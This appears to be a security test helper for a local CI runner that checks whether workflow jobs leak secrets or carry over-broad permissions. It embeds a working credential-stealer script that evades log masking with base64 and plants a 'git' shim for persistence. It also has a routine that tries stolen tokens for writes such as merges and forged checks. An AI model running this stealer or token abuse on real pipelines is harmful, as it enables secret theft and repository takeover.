import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { JobName } from '@modelops/local-github';
import type { JobRecord, WorkflowRun } from '@modelops/local-runner';
import { unzip } from '../../packages/action-kit/src/zip.testkit.ts';
import type { Scene } from './job.ts';

/**
 * `node steal.mjs WHERE [FILE]`, a user's command that takes what it can reach: its environment, git's configuration, every
 * file of the job and of the machine's temporary folder, and the environments of the processes that started it. It writes
 * that in base64, which no mask finds, into the log and into a file that travels with the evidence.
 *
 * `WHERE` may be `git`: then it stands before the real git, in the actions that run after it, and sends what it finds away.
 */
const steal = (away: string) => `import { execFileSync } from 'node:child_process';
import { appendFileSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';

const [, script, where, file] = process.argv;
const { env } = process;
const found = [];
const look = (name, read) => {
  try { found.push('## ' + name + '\\n' + read()); } catch {}
};
const seen = new Set();
const take = (path, folders = true) => {
  let entry;
  try { entry = lstatSync(path); } catch {}
  if (entry === undefined || seen.has(path) || (entry.isDirectory() && !folders)) return;
  seen.add(path);
  if (entry.isFile() && entry.size < 1e6) look(path, () => readFileSync(path, 'latin1'));
  if (entry.isDirectory() && basename(path) !== 'objects')
    look(path, () => readdirSync(path).forEach((name) => take(join(path, name))));
};
look('environment', () => JSON.stringify(env));
look('git', () => execFileSync('git', ['config', '-l', '--show-origin'], { env: { ...env, NO_THIEF: '1' } }));
// The files that a variable names: the event, what the steps hand on.
for (const value of Object.values(env)) if (value.startsWith('/')) take(value, false);
for (const path of [dirname(env.GITHUB_WORKSPACE), env.RUNNER_TEMP, homedir(), tmpdir()]) take(path);
// Up to the runner, whose process is no part of what is shipped.
for (let pid = process.ppid; pid > 1; ) {
  let mine = false;
  look('process ' + pid, () => {
    const environment = readFileSync('/proc/' + pid + '/environ', 'latin1');
    mine = environment.includes('GITHUB_RUN_ID=' + env.GITHUB_RUN_ID + '\\0');
    return mine ? environment + readFileSync('/proc/' + pid + '/cmdline', 'latin1') : '';
  });
  if (!mine) break;
  pid = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
}
const loot = Buffer.from(found.join('\\n')).toString('base64');
if (where === 'git') {
  writeFileSync(join(${JSON.stringify(away)}, [env.GITHUB_RUN_ID, env.GITHUB_JOB, env.INPUT_MODE].join(' ')), loot);
} else {
  console.log('stolen ' + where + ' ' + loot);
  if (file !== undefined) writeFileSync(file, loot);
}
if (where === 'fetch') {
  const folder = join(env.RUNNER_TEMP, 'bin');
  mkdirSync(folder);
  const sent = ${JSON.stringify(away)} + '/$GITHUB_RUN_ID $GITHUB_JOB $INPUT_MODE';
  writeFileSync(join(folder, 'git'), [
    '#!/bin/sh',
    'export PATH="' + env.PATH + '"',
    'if [ -z "$NO_THIEF" ] && [ ! -e "' + sent + '" ]; then NO_THIEF=1 "' + process.execPath + '" "' + script + '" git; fi',
    'exec git "$@"',
    '',
  ].join('\\n'), { mode: 0o755 });
  appendFileSync(env.GITHUB_PATH, folder + '\\n');
}
`;

/** What of a text is a credential, however often it was encoded. */
export interface Credentials {
  /** Tokens of the API. */
  readonly tokens: readonly string[];
  /** Tokens of the artifact service. */
  readonly runtime: readonly string[];
  /** Names of the repository's secrets. */
  readonly secrets: readonly string[];
  /** Whether an identity of the job could be asked for. */
  readonly identity: boolean;
}

/** Searches a text, and what is base64 in it. */
export function credentialsIn(text: string, secrets: Readonly<Record<string, string>>): Credentials {
  const layers = [text];
  for (let depth = 0; depth < 3; depth++) {
    const encoded = layers.at(-1)!.match(/[A-Za-z0-9+/_-]{24,}={0,2}/g) ?? [];
    layers.push(
      [...new Set(encoded)].map((part) => Buffer.from(part, 'base64').toString('latin1')).join('\n'),
    );
  }
  const all = layers.join('\n');
  const every = (pattern: RegExp) => [...new Set(all.match(pattern))];
  return {
    tokens: every(/\b(?:ghs|ghp|gho|ghu|ghr|github_pat)_[\w-]{20,}/g),
    runtime: every(/\beyJ[\w-]+\.[\w-]+\.[\w-]+/g),
    secrets: Object.keys(secrets).filter((name) => all.includes(secrets[name]!)),
    identity: /ACTIONS_ID_TOKEN_REQUEST_/.test(all),
  };
}

/** What somebody who holds a token can do with it. */
interface Power {
  /** The job that it belongs to. */
  readonly job: JobName | undefined;
  /** Writes that GitHub did not refuse with 403. */
  readonly writes: readonly string[];
}

/** Where the stolen goes, and what it is good for. */
export class Thief {
  readonly #folder: string;

  private constructor(folder: string) {
    this.#folder = folder;
  }

  static async hide(): Promise<Thief> {
    const thief = new Thief(await mkdtemp(join(tmpdir(), 'modelops-thief-')));
    for (const folder of [thief.#away, thief.machine]) await mkdir(folder);
    return thief;
  }

  /** The script's text. */
  get script(): string {
    return steal(this.#away);
  }

  /** The temporary folder of all jobs, as on a machine of one's own, where the next job finds what the last one left. */
  get machine(): string {
    return join(this.#folder, 'machine');
  }

  get #away(): string {
    return join(this.#folder, 'away');
  }

  /** What the shim sent away from the actions of a run: mode of the action → loot. */
  async sent(run: WorkflowRun, job: JobRecord): Promise<Map<string, string>> {
    const sent = new Map<string, string>();
    for (const name of await readdir(this.#away)) {
      const [runId, id, mode = ''] = name.split(' ');
      if (Number(runId) === run.run.id && job.name.split(' / ').at(-1) === id)
        sent.set(mode, await readFile(join(this.#away, name), 'utf8'));
    }
    return sent;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await rm(this.#folder, { recursive: true, force: true });
  }
}

/** Where a user's commands stole in a job: `fetch`, `setup`, `train`. */
export function robbed(job: JobRecord): string[] {
  return job.steps.flatMap(({ log }) => [...log.matchAll(/^stolen (\w+) /gm)].map((match) => match[1]!));
}

/** Tries a token: what it is refused is not remembered, what it may do is done. */
export async function powerOf(scene: Scene, token: string, pullRequest: number): Promise<Power> {
  const { hub, repository } = scene;
  const sha = await repository.sha('main');
  const path = `/repos/${repository.fullName}`;
  const branch = `stolen-${hub.requests.length}`;
  const attempts: [method: string, path: string, body?: object][] = [
    ['POST', `${path}/git/refs`, { ref: `refs/heads/${branch}`, sha }],
    ['POST', `${path}/releases`, { tag_name: `churn@v9.9.9`, draft: true }],
    ['PUT', `${path}/contents/stolen.txt`, { message: 'Stolen', content: 'c3RvbGVu', branch: 'main' }],
    ['POST', `${path}/issues/${pullRequest}/comments`, { body: 'stolen' }],
    ['POST', `${path}/check-runs`, { name: 'ci / gate', head_sha: sha, conclusion: 'success' }],
    ['POST', `${path}/statuses/${sha}`, { state: 'success', context: 'ci / gate' }],
    ['POST', `${path}/pulls`, { title: 'stolen', head: 'topic', base: 'main' }],
    ['PUT', `${path}/pulls/${pullRequest}/merge`, {}],
    ['POST', `${path}/actions/workflows/modelops.yml/dispatches`, { ref: 'main' }],
  ];
  const writes: string[] = [];
  let job: JobName | undefined;
  for (const [method, route, body] of attempts) {
    const response = await fetch(`${hub.apiUrl}${route}`, {
      method,
      headers: { authorization: `Bearer ${token}`, accept: 'application/vnd.github+json' },
      body: JSON.stringify(body),
    });
    await response.arrayBuffer();
    job ??= hub.requests.at(-1)?.job;
    if (response.status !== 403 && response.status !== 401)
      writes.push(`${method} ${route.slice(path.length)}`);
  }
  return { job, writes };
}

/** What a run did that no run of ours may: one line each. */
export async function complaints(
  scene: Scene,
  run: WorkflowRun,
  thief: Thief,
  options: { readonly secrets: Readonly<Record<string, string>>; readonly pullRequest: number },
): Promise<string[]> {
  const found: string[] = [];
  for (const job of run.jobs) {
    const places = robbed(job);
    const writing = Object.entries(job.permissions).filter(([, level]) => level === 'write');
    const code =
      places.length > 0 || job.steps.some(({ log }) => /^substitute for actions\/checkout/m.test(log));
    if (code && writing.length > 0)
      found.push(`${job.name} has ${writing.map(([scope]) => `${scope}: write`).join(', ')}`);
    const examine = async (where: string, text: string, command: boolean) => {
      const { tokens, runtime, secrets, identity } = credentialsIn(text, options.secrets);
      for (const token of tokens) {
        const { job: owner, writes } = await powerOf(scene, token, options.pullRequest);
        if (owner?.name !== job.name || owner.runId !== run.run.id)
          found.push(`${job.name}, ${where}: a token of ${owner?.name}`);
        if (command) found.push(`${job.name}, ${where}: its own token, which only actions are given`);
        if (writes.length > 0) found.push(`${job.name}, ${where}: a token that can ${writes.join(', ')}`);
      }
      if (command && runtime.length > 0) found.push(`${job.name}, ${where}: the artifact service's token`);
      for (const secret of secrets) found.push(`${job.name}, ${where}: the secret ${secret}`);
      if (identity) found.push(`${job.name}, ${where}: the job's identity`);
    };
    // Of each job also what it printed itself: masks are not what keeps a secret.
    for (const { name, log, outputs, summary } of job.steps)
      await examine(name, [log, summary, ...Object.values(outputs)].join('\n'), true);
    for (const [mode, loot] of await thief.sent(run, job)) await examine(`git in ${mode}`, loot, false);
  }
  return found;
}

/** Every file in every artifact of the repository: artifact → texts. */
export async function artifactTexts(scene: Scene): Promise<Map<string, string>> {
  const { people, names } = scene;
  const texts = new Map<string, string>();
  for (const { id, name } of await scene.artifacts()) {
    const { data } = await people.rest.actions.downloadArtifact({
      ...names,
      artifact_id: id,
      archive_format: 'zip',
    });
    const files = unzip(Buffer.from(data as ArrayBuffer));
    texts.set(
      `${name} (${id})`,
      files.map((file) => `${file.name}\n${file.content.toString('latin1')}`).join('\n'),
    );
  }
  return texts;
}
